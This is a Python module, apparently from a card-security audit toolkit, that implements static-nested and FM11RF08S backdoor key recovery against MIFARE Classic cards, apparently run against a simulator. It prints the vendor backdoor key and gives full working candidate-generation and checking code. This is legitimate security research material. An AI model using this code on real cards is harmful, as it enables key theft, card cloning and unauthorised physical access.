"""Key recovery on cards whose nested nonces give nothing away by changing: static nested and the FM11RF08S
backdoor recovery (docs/research/static-nested.md).

- static nested: a static-nonce chip restarts its PRNG at every first authentication, so the nonce of a nested
  authentication lies a fixed, measurable distance after the first one. From one known key, two nested
  requests for the target (one and two authentications deep) give two keystreams of known plaintext; each
  yields tens of thousands of candidate keys (Crypto-1 state recovery, filtered by the leaked parity bit), and
  the two lists share about one key, checked by authenticating.
- backdoor recovery (Teuwen, IACR ePrint 2024/1275): an FM11RF08S opens every sector to the vendor key
  A396EFA4E24F with auth command 64/65, and its nested nonce is fixed per sector and key slot. A nested
  backdoor authentication shows that nonce in the clear; the same nested request with command 60/61 shows it
  encrypted with the unknown key: a keystream of known plaintext, hence a candidate list per key. Key A and
  key B of a sector come from the same 16-bit sector value (``cardsim.mifare.fm11rf08s_seed``), which cuts
  both lists and, once key A is found, leaves one or two candidates for key B. Candidates are checked against
  the card, one authentication each, as Proxmark3's ``hf mf fchk`` does.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable

import numpy as np

from audit.m1_attacks import (
    AttackFailed,
    PrngClass,
    classify_prng,
    collect_nonces,
    key_states,
    nested_request,
    nonce_distance,
    try_key,
)
from cardsim.crypto1 import prng_successor
from cardsim.mifare import BACKDOOR_KEY, fm11rf08s_seed
from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Reader

Progress = Callable[[str], None]
Slot = tuple[int, int]  # (sector, 0x60|0x61)

BATCH = 512  # candidates checked between two looks at the clock and two progress lines
WINDOW = 1  # nonce-distance steps tried either side of the measured one (chips differ by one step for key B)


class _Clock:
    """The attack's time budget."""

    def __init__(self, max_seconds: float | None) -> None:
        self.start = time.perf_counter()
        self.max_seconds = max_seconds

    def over(self) -> bool:
        return self.max_seconds is not None and time.perf_counter() - self.start > self.max_seconds

    def why(self) -> str:
        return f"ran out of its {self.max_seconds:g} s budget"


def key_candidates(uid: int, nt: int, enc_nt: int, parities: tuple[int, ...]) -> np.ndarray:
    """Every key (sorted uint64) under which a nested authentication to a card ``uid`` sends nonce ``nt`` as
    ``enc_nt`` with encrypted ``parities``; empty when the parity bits show ``nt`` is not the nonce sent."""
    states = key_states(uid, nt, enc_nt, parities)
    return np.array([], dtype=np.uint64) if states is None else np.unique(states.lfsr())


def _check(
    slot: FrameSlot,
    block: int,
    key_type: int,
    candidates: Iterable[int],
    clock: _Clock,
    progress: Progress,
    what: str,
) -> int | None:
    """The candidate that authenticates (one fresh authentication each, the clock read every ``BATCH``), None
    when none does; AttackFailed when the budget runs out first."""
    for n, key in enumerate(candidates):
        if n % BATCH == 0:
            if clock.over():
                raise AttackFailed(f"{what}: {clock.why()} after {n} candidates")
            if n:
                progress(f"{what}: {n} candidates checked")
        if try_key(slot, block, int(key), key_type):
            return int(key)
    return None


def _session(chip: M1Chip, uid: int, known: tuple[int, int, int]) -> M1Reader:
    """A fresh field and a first authentication with the known key."""
    chip.power_on()
    reader = M1Reader(chip, uid)
    reader.authenticate(known[0], known[1], known[2])
    return reader


# --- static nested -------------------------------------------------------------------------------


def _static_distances(chip: M1Chip, uid: int, known: tuple[int, int, int]) -> list[int]:
    """PRNG steps from the first nonce to the nonce of a nested authentication one and two deep, measured on
    the known sector."""
    reader = _session(chip, uid, known)
    first = reader.last_nt
    distances = []
    for _ in range(2):
        reader.authenticate(known[0], known[1], known[2])
        distance = nonce_distance(first, reader.last_nt)
        if distance is None:
            raise AttackFailed("the nested nonces are not on the PRNG sequence of the first one")
        distances.append(distance)
    return distances


def static_nested_attack(
    chip: M1Chip,
    uid: int,
    known: tuple[int, int, int],
    target: tuple[int, int],
    *,
    max_seconds: float | None = None,
    progress: Progress = lambda _: None,
) -> int:
    """The key of ``target`` = (block, 0x60|0x61) on a static-nonce card, from ``known`` = (block, key, type).

    AttackFailed with the reason when the card's first nonce changes (then nested or hardnested apply), when the
    known key does not authenticate, when no candidate is left or none authenticates, or when ``max_seconds``
    runs out. Raw frames only (``M1Chip``); every command goes through ``with_crc``.
    """
    clock = _Clock(max_seconds)
    nonces = collect_nonces(chip, 3, known[0])
    prng = classify_prng(nonces)
    if prng is not PrngClass.STATIC:
        shown = " ".join(f"{n:08X}" for n in nonces)
        raise AttackFailed(f"static nested needs a nonce that never changes; this card's are {prng.value} ({shown})")
    what = f"static nested on block {target[0]} key {target[1]:02X}"
    try:
        distances = _static_distances(chip, uid, known)
        survivors: np.ndarray | None = None
        for depth, distance in enumerate(distances, 1):
            reader = _session(chip, uid, known)
            first = reader.last_nt
            for _ in range(depth - 1):
                reader.authenticate(known[0], known[1], known[2])
            enc, parities = nested_request(chip, reader, target)
            guesses = range(max(0, distance - WINDOW), distance + WINDOW + 1)
            found = np.unique(
                np.concatenate([key_candidates(uid, prng_successor(first, d), enc, parities) for d in guesses])
            )
            survivors = found if survivors is None else np.intersect1d(survivors, found)
            progress(f"{what}: nonce {depth} deep ({distance} PRNG steps), {len(survivors)} candidates")
    except M1Error as err:
        raise AttackFailed(f"the known key does not open its sector: {err}") from err
    if survivors is None or len(survivors) == 0:
        raise AttackFailed("no key candidate explains both encrypted nonces")
    key = _check(FrameSlot(chip), target[0], target[1], survivors, clock, progress, what)
    if key is None:
        raise AttackFailed(f"{len(survivors)} candidates left, none authenticates")
    return key


# --- FM11RF08S backdoor ---------------------------------------------------------------------------


def _backdoor_sample(chip: M1Chip, uid: int, sector: int, key_type: int) -> tuple[int, int, tuple[int, ...]]:
    """(nT, {nT}, parities) of the slot's static nested nonce: in a backdoor session, a nested backdoor
    authentication shows it in the clear; in a second one, a nested request with 60/61 shows it encrypted."""
    backdoor = key_type + 4  # 64 for key A's slot, 65 for key B's
    block = sector * 4
    reader = _session(chip, uid, (block, BACKDOOR_KEY, backdoor))
    reader.authenticate(block, BACKDOOR_KEY, backdoor)
    nt = reader.last_nt
    reader = _session(chip, uid, (block, BACKDOOR_KEY, backdoor))
    enc, parities = nested_request(chip, reader, (block, key_type))
    return nt, enc, parities


def backdoor_recovery(
    chip: M1Chip,
    uid: int,
    *,
    max_seconds: float | None = None,
    progress: Progress = lambda _: None,
    sectors: Iterable[int] = range(16),
) -> dict[Slot, int]:
    """(sector, 0x60|0x61) -> key for every key of ``sectors`` of an FM11RF08S it finds, through the vendor key.

    Sector by sector, each key checked against the card before it counts. When ``max_seconds`` runs out it
    stops and returns the keys found so far, none lost: a slot missing from the result was not found (the
    caller compares with the slots it wants; a progress line says where it stopped and why). AttackFailed only
    when it cannot run at all: the card refuses the vendor key (not an FM11RF08S) or its nested nonces are not
    static. Each key costs thousands of authentications (one per candidate, as on a real card). A card that
    leaves (M1Gone) ends it with that error.
    """
    clock = _Clock(max_seconds)
    try:
        nt, _, _ = _backdoor_sample(chip, uid, 0, 0x60)
        again, _, _ = _backdoor_sample(chip, uid, 0, 0x60)
    except M1Error as err:
        raise AttackFailed(f"the card refuses the FM11RF08S vendor key {BACKDOOR_KEY:012X} (AUTH 64): {err}") from err
    if nt != again:
        raise AttackFailed(f"the nested nonce under the vendor key changes ({nt:08X}, {again:08X}): not static")
    found: dict[Slot, int] = {}
    slot = FrameSlot(chip)
    for sector in sectors:
        if clock.over():
            progress(f"FM11RF08S backdoor: {clock.why()} before sector {sector}")
            break
        try:
            samples = {}
            for key_type in (0x60, 0x61):
                nt, enc, parities = _backdoor_sample(chip, uid, sector, key_type)
                candidates = key_candidates(uid, nt, enc, parities)
                samples[(sector, key_type)] = (nt, candidates, fm11rf08s_seed(nt, candidates))
            _sector_keys(slot, sector, samples, found, clock, progress)
        except (AttackFailed, M1Error) as err:  # the budget, or a refusal: keep what was found
            progress(f"FM11RF08S backdoor: stopped in sector {sector}: {err}")
            break
    return found


def _sector_keys(
    slot: FrameSlot,
    sector: int,
    samples: dict[Slot, tuple[int, np.ndarray, np.ndarray]],
    found: dict[Slot, int],
    clock: _Clock,
    progress: Progress,
) -> None:
    """Key A and key B of one sector into ``found`` as each is checked. The first searched among its candidates
    whose sector value the other's list shares (the shorter list first, ranked by how many partners share the
    value); the second among the candidates whose value matches the first key's. Keys found in other sectors
    are tried first (keys are often reused)."""
    a, b = (sector, 0x60), (sector, 0x61)
    values = {s: samples[s][2].astype(np.int64) for s in (a, b)}
    counts = {s: np.bincount(values[s], minlength=1 << 16) for s in (a, b)}
    shared = {a: counts[b][values[a]], b: counts[a][values[b]]}
    order = sorted((a, b), key=lambda s: int(np.count_nonzero(shared[s])))
    earlier = np.array(list(dict.fromkeys(found.values())), dtype=np.uint64)
    for this, other in (order, order[::-1]):
        _, candidates, seeds = samples[this]
        if other in found:
            pick = candidates[seeds == fm11rf08s_seed(samples[other][0], found[other])]
        else:
            ranked = np.argsort(-shared[this], kind="stable")
            pick = candidates[ranked[shared[this][ranked] > 0]]
        reused = earlier[np.isin(earlier, pick)]
        what = f"FM11RF08S sector {sector} key {'A' if this[1] == 0x60 else 'B'}"
        progress(f"{what}: {len(pick)} candidates")
        key = _check(slot, sector * 4 + 3, this[1], [*reused, *pick], clock, progress, what)
        if key is not None:
            found[this] = key
